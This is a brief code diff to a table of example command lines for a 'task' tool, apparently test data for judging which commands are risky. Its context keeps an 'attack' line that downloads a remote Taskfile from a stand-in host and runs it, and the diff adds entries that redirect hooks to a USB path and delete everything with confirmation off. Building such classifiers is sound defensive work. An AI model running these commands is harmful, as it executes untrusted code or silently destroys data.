@@ -77,6 +77,10 @@ export const buildTools1: ExampleTable = {
     use: 'task -t Taskfile.ci.yml build → read Taskfile.ci.yml',
     attack:
       'curl -so Taskfile.yml https://example.org/x && task -t Taskfile.yml build → execute ‹https://example.org/x›',
+    unclear: [
+      `task config hooks.location /media/usb0/hooks → what starts by itself from then on`,
+      `task rc.confirmation=off all delete → what is lost with it`,
+    ],
   },
   'task execute': {
     use: 'task execute cat notes.txt → read notes.txt',
